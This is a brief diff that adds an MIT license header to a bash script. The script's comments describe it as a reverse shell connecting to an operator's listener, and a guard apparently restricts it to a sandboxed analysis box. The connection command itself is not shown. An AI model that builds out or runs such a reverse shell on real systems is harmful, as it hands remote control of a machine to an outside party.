@@ -1,4 +1,5 @@
 #!/bin/bash
+# SPDX-License-Identifier: MIT
 # A reverse shell: an interactive bash whose input and output are a TCP
 # connection to the operator's listener (given up after a few seconds).
 [ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
